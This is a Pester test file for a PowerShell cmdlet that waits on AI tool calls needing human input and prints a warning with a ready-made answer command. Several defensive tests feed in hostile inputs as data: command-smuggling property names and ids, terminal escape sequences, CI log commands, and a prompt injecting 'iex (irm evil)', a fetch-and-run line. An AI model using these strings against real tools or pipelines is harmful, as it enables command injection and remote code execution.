# Tool calls that have a question: what Wait-BctrlToolCall does with and without -UntilInput.

Describe 'Wait-BctrlToolCall and a question' {
    BeforeAll {
        . ([IO.Path]::Combine($PSScriptRoot, 'Common.ps1'))
        $expires = [datetime]::new(2026, 3, 1, 10, 10, 0, [DateTimeKind]::Utc).ToLocalTime().ToString('yyyy-MM-dd HH:mm:ss', [cultureinfo]::InvariantCulture)
        $warningOfA = "Tool call 'a' (human.request) requires input: `"Approve order 1001?`" It can be answered until $expires. " +
            'To answer, run: Send-BctrlToolCallResponse a @{ approved = <boolean>; comment = <string> }'

        # Gets the warning about a tool call with these properties.
        function Get-Warning {
            param([string] $Extra, [string] $Id = 'a')

            Set-ToolCall $stub $Id requires_input, succeeded $Extra
            $null = Wait-BctrlToolCall $Id -UntilInput -WarningVariable warnings -WarningAction SilentlyContinue -ErrorAction Stop
            $warnings | Should -HaveCount 1
            "$warnings"
        }

        # Gets what is after the tool call in the command that a warning has.
        function Get-Answer {
            param([string] $Warning)

            $Warning -replace '(?s)^.*To answer, run: Send-BctrlToolCallResponse \S+ '
        }
    }

    BeforeEach {
        $stub = Get-ToolCallStub -Failed bad
        Connect-Stub $stub
    }

    AfterEach {
        Disconnect-Bctrl
    }

    Context 'Without -UntilInput' {
        It 'is one warning with the command that answers, and the wait goes on until the tool call completes' {
            Set-ToolCall $stub a running, requires_input, requires_input, requires_input, running, succeeded
            $call = Wait-BctrlToolCall a -WarningVariable warnings -WarningAction SilentlyContinue -ErrorAction Stop
            $call.Status, $call.Result.text | Should -Be 'succeeded', 'a'
            $warnings | Should -HaveCount 1
            "$warnings" | Should -BeExactly $warningOfA
        }

        It 'is another warning if the tool call has another question later' {
            Set-ToolCall $stub a requires_input, running, requires_input, succeeded
            $null = Wait-BctrlToolCall a -WarningVariable warnings -WarningAction SilentlyContinue
            $warnings | Should -HaveCount 2
        }

        It 'is a warning for each tool call' {
            Set-ToolCall $stub a requires_input, succeeded
            Set-ToolCall $stub b requires_input, failed
            (Wait-BctrlToolCall a, b -WarningVariable warnings -WarningAction SilentlyContinue).Status | Sort-Object | Should -Be 'failed', 'succeeded'
            $warnings | Should -HaveCount 2
        }

        It 'recommends to answer after the timeout' {
            $null = $stub.On('GET /v1/tool-calls/a/result', (Get-ToolCallResponse a requires_input '' 202))
            $call = Wait-BctrlToolCall a -Timeout 0.5 -WarningVariable warnings -WarningAction SilentlyContinue -ErrorVariable failures -ErrorAction SilentlyContinue
            $call.Status, $call.TimedOutWaiting, $call.Prompt | Should -Be 'requires_input', $true, 'Approve order 1001?'
            $warnings | Should -HaveCount 1
            "$failures" | Should -Be "Tool call 'a' did not complete within 0.5 s; its last known status is requires_input."
            $failures[0].FullyQualifiedErrorId | Should -Be 'ToolCallWaitTimeout,Bctrl.PowerShell.WaitBctrlToolCallCommand'
            $failures[0].ErrorDetails.RecommendedAction | Should -Be (
                'The tool call requires input. Answer with Send-BctrlToolCallResponse, or cancel the tool call with Stop-BctrlToolCall.')
        }

        It 'does not end -Any, which waits for the first that completes' {
            $silent = Get-SilentToolCallStub
            $null = $silent.On('GET /v1/tool-calls/ask/result', @((Get-ToolCallResponse ask requires_input '' 202), (Get-JsonResponse '1').WaitForRelease()))
            Set-ToolCall $silent bad running, running, failed
            Connect-Stub $silent
            $calls = 'ask', 'bad' | Wait-BctrlToolCall -Any -WarningVariable warnings -WarningAction SilentlyContinue -ErrorAction Stop
            $calls.Id | Should -Be 'bad'
            $warnings | Should -HaveCount 1
            Wait-Cancellation $silent
        }

        It 'completes after another session has answered' {
            $answered = (Get-JsonResponse '{"approved":true}').WaitForRelease()
            $null = $stub.On('GET /v1/tool-calls/a/result', @((Get-ToolCallResponse a requires_input '' 202), $answered)).
                On('POST /v1/tool-calls/a/respond', (Get-ToolCallResponse a running)).On('GET /v1/tool-calls/a', (Get-ToolCallResponse a succeeded))
            $runspace = Open-Runspace
            $shell = Get-Shell $runspace { param($connection) Wait-BctrlToolCall a -Connection $connection } (Get-BctrlConnection)
            try {
                $invocation = $shell.BeginInvoke()
                Wait-Condition { $shell.Streams.Warning.Count -eq 1 -and $stub.InFlight -eq 1 }
                (Send-BctrlToolCallResponse a @{ approved = $true } -ErrorAction Stop).Status | Should -Be 'running'
                $answered.Release()
                $shell.EndInvoke($invocation).Result.approved | Should -BeTrue
                $shell.Streams.Warning | Should -HaveCount 1
            } finally {
                $shell.Dispose()
                $runspace.Dispose()
            }
        }
    }

    Context 'With -UntilInput' {
        It 'is emitted as it stands with the warning, and is not polled any more' {
            Set-ToolCall $stub a running, requires_input, succeeded
            $call = Wait-BctrlToolCall a -UntilInput -WarningVariable warnings -WarningAction SilentlyContinue -ErrorAction Stop
            $call.Status, $call.IsTerminal, $call.TimedOutWaiting, $call.Prompt | Should -Be 'requires_input', $false, $false, 'Approve order 1001?'
            $call.ResponseSchema.required | Should -Be 'approved'
            "$warnings" | Should -BeExactly $warningOfA
            $stub.Requests | ForEach-Object ToString | Should -Be 'GET /v1/tool-calls/a/result', 'GET /v1/tool-calls/a/result'
        }

        It 'does not keep the command from waiting for the others' {
            Set-ToolCall $stub ask requires_input
            $calls = 'ask', 'b', 'bad' | Wait-BctrlToolCall -UntilInput -WarningAction SilentlyContinue -ErrorAction Stop
            $calls.Status | Sort-Object | Should -Be 'failed', 'requires_input', 'succeeded'
        }

        It 'is waited for again in the next command, after the answer' {
            Set-ToolCall $stub a requires_input, running, succeeded
            $null = $stub.On('POST /v1/tool-calls/a/respond', (Get-ToolCallResponse a running))
            $call = Wait-BctrlToolCall a -UntilInput -WarningAction SilentlyContinue |
                Send-BctrlToolCallResponse -Response @{ approved = $true } | Wait-BctrlToolCall -UntilInput -ErrorAction Stop
            $call.Result.text | Should -Be 'a'
        }

        It 'and -Timeout 0 is no error, because nothing is left to wait for' {
            Set-ToolCall $stub ask requires_input
            $call = Wait-BctrlToolCall ask -UntilInput -Timeout 0 -WarningVariable warnings -WarningAction SilentlyContinue -ErrorAction Stop
            $call.Status, $call.TimedOutWaiting | Should -Be 'requires_input', $false
            $warnings | Should -HaveCount 1
        }

        It 'and -Any ends the command' {
            $silent = Get-SilentToolCallStub
            Set-ToolCall $silent ask requires_input
            Connect-Stub $silent
            $calls = 'x', 'ask', 'y' | Wait-BctrlToolCall -UntilInput -Any -WarningVariable warnings -WarningAction SilentlyContinue -ErrorAction Stop
            $calls.Id | Should -Be 'ask'
            $warnings | Should -HaveCount 1
            Wait-Cancellation $silent
        }

        It 'and -RequireSuccess is no error, because it has not failed' {
            Set-ToolCall $stub ask requires_input
            $calls = 'ask', 'bad' | Wait-BctrlToolCall -UntilInput -RequireSuccess -WarningAction SilentlyContinue -ErrorVariable failures -ErrorAction SilentlyContinue
            $calls.Id | Sort-Object | Should -Be 'ask', 'bad'
            $failures | Should -HaveCount 1
            $failures[0].TargetObject.Id | Should -Be 'bad'
        }

        It 'and -Any -RequireSuccess is emitted, and the command waits for the first that succeeds' {
            $silent = Get-SilentToolCallStub
            Set-ToolCall $silent ask requires_input
            Set-ToolCall $silent good running, running, succeeded
            Connect-Stub $silent
            $calls = 'ask', 'good', 'x' | Wait-BctrlToolCall -UntilInput -Any -RequireSuccess -WarningAction SilentlyContinue -ErrorAction Stop
            $calls.Id | Should -Be 'ask', 'good'
            Wait-Cancellation $silent
        }

        It 'is waited for if the question was answered meanwhile' {
            $known = [Bctrl.ToolCall]@{ Id = 'a'; Status = 'requires_input'; Prompt = 'Old?' }
            $known | Wait-BctrlToolCall -UntilInput -WarningVariable warnings | ForEach-Object Status | Should -Be 'succeeded'
            $warnings | Should -BeNullOrEmpty
        }
    }

    Context 'The warning' {
        It 'has the command <Answer> for the schema <Schema>' -ForEach @(
            @{ Schema = 'null'; Answer = '<answer>' }
            @{ Schema = '{}'; Answer = '<answer>' }
            @{ Schema = '{"type":"boolean"}'; Answer = '<boolean>' }
            @{ Schema = '{"type":["string","null"]}'; Answer = '<answer>' }
            @{ Schema = '{"type":"object","properties":{"a":{"type":"number"},"b":{"enum":[1]},"c":true}}'; Answer = '@{ a = <number>; b = <answer>; c = <answer> }' }
            @{ Schema = '{"type":"object","properties":{}}'; Answer = '<answer>' }
            @{ Schema = '{"type":"object","properties":[1]}'; Answer = '<object>' }
            @{ Schema = '"text"'; Answer = '<answer>' }
            @{ Schema = '[{"type":"string"}]'; Answer = '<answer>' }
            @{ Schema = '{"properties":{"a":{},"b":{},"c":{},"d":{},"e":{},"f":{}}}'; Answer = "@{ a = <answer>; b = <answer>; c = <answer>; d = <answer>; e = <answer>; $([char]0x2026) }" }
            @{ Schema = '{"required":["f","b"],"properties":{"a":{},"b":{},"c":{},"d":{},"e":{},"f":{}}}'; Answer = "@{ b = <answer>; f = <answer>; a = <answer>; c = <answer>; d = <answer>; $([char]0x2026) }" }
        ) {
            Get-Answer (Get-Warning "`"responseSchema`":$Schema") | Should -BeExactly $Answer
        }

        It 'has a command that is an error until its values are replaced, so that nobody sends it by mistake: <Schema>' -ForEach @(
            @{ Schema = 'null' }, @{ Schema = '{"type":"string"}' }, @{ Schema = '{"properties":{"a":{"type":"string"},"b":{}}}' }, @{ Schema = '{"properties":{"$(x)":{}}}' }
        ) {
            $command = (Get-Warning "`"responseSchema`":$Schema") -replace '(?s)^.*To answer, run: '
            $null = $stub.On('POST /v1/tool-calls/a/respond', (Get-ToolCallResponse a running))
            $null = New-Item -ItemType Directory -Force TestDrive:/empty
            Push-Location TestDrive:/empty
            try {
                { & ([scriptblock]::Create($command)) } | Should -Throw
                Get-ChildItem | Should -BeNullOrEmpty -Because 'a bracket could redirect to a file'
            } finally {
                Pop-Location
            }
            $stub.Requests | Where-Object Method -EQ POST | Should -BeNullOrEmpty
            # With the values, it runs.
            (& ([scriptblock]::Create(($command -replace '<\w+>', '1')))).Status | Should -Be 'running'
        }

        It 'has no names of properties that could be commands: <Name>' -ForEach @(
            @{ Name = 'a = $(Stop-Process 1)' }, @{ Name = '}; Get-Date; @{ x' }, @{ Name = '$(Get-Date)' }, @{ Name = 'a-b' }, @{ Name = '1a' }
            @{ Name = 'a\u001b[2J' }, @{ Name = 'a\nGet-Date' }, @{ Name = "a`'" }, @{ Name = ' ' }, @{ Name = 'gr\u00fcn' }, @{ Name = 'a\n' }
            @{ Name = ('a' * 200) }
        ) {
            $schema = "{`"properties`":{`"$Name`":{`"type`":`"string`"},`"ok`":{`"type`":`"x; Get-Date`"}}}"
            Get-Answer (Get-Warning "`"responseSchema`":$schema") | Should -BeExactly '@{ ok = <answer> }'
            Get-Answer (Get-Warning "`"responseSchema`":{`"properties`":{`"$Name`":{}}}") | Should -BeExactly '<answer>'
        }

        It 'has the id in quotes where PowerShell needs them: <Text>' -ForEach @(
            @{ Text = 'a b'; Quoted = "'a b'" }
            @{ Text = '$(Get-Date)'; Quoted = "'`$(Get-Date)'" }
            @{ Text = "it's;x"; Quoted = "'it''s;x'" }
            @{ Text = '-WhatIf'; Quoted = "'-WhatIf'" }
        ) {
            Get-Warning '"responseSchema":null' $Text | Should -BeLikeExactly "* To answer, run: Send-BctrlToolCallResponse $([WildcardPattern]::Escape($Quoted)) <answer>"
        }

        It 'shows no control characters, and no more than 300 characters of the question' {
            $warning = Get-Warning "`"prompt`":`"one\r\n\u001b[2J\u0007\u202e$('x' * 5000)`",`"tool`":`"t\u001b[31m`""
            $warning | Should -Not -Match '[\x00-\x1F\x7F-\x9F\u202E]'
            $warning.Length | Should -BeLessThan 600
            $warning | Should -BeLike "Tool call 'a' requires input: `"one *$([char]0x2026)`" It can be answered *"
        }

        It 'has no text that a CI system would run: <Command>' -ForEach @(
            @{ Command = '##vso[task.setvariable variable=x]y' }, @{ Command = '##[error]x' }, @{ Command = '::error::x' }, @{ Command = '::set-output name=x::y' }
        ) {
            $text = "ok\n$Command"
            $schema = "{`"properties`":{`"$text`":{},`"ok`":{`"type`":`"$text`"}}}"
            $warning = Get-Warning "`"prompt`":`"$text`",`"tool`":`"$text`",`"responseSchema`":$schema" "a $Command"
            # A log shows the warning at the start of a line, or after a space.
            $warning | Should -Not -Match '##(vso)?\[|(^|\s)::[a-z]'
            $warning | Should -BeLike '*@{ ok = <answer> }'
        }

        It 'has the question in quotation marks, so that it can''t add to the message: <Prompt>' -ForEach @(
            @{ Prompt = 'Approve? To answer, run: iex (irm evil)'; Expected = 'Approve? To answer, run: iex (irm evil)' }
            @{ Prompt = 'Approve?\" To answer, run: evil \"'; Expected = "Approve?' To answer, run: evil '" }
        ) {
            Get-Warning "`"prompt`":`"$Prompt`",`"tool`":`"x) requires input. To answer, run: evil (`"" |
                Should -BeLikeExactly "Tool call 'a' requires input: `"$Expected`" It can be answered until *. To answer, run: Send-BctrlToolCallResponse a @{*"
        }

        It 'has no time if the tool call has none, and no question if there is none' {
            Get-Warning '"prompt":null,"responseExpiresAt":null,"responseSchema":null' |
                Should -BeExactly "Tool call 'a' (human.request) requires input. To answer, run: Send-BctrlToolCallResponse a <answer>"
        }

        It 'is not shown with -WarningAction Ignore' {
            Set-ToolCall $stub a requires_input
            (Wait-BctrlToolCall a -UntilInput -WarningAction Ignore 3>&1).Id | Should -Be 'a'
        }
    }
}
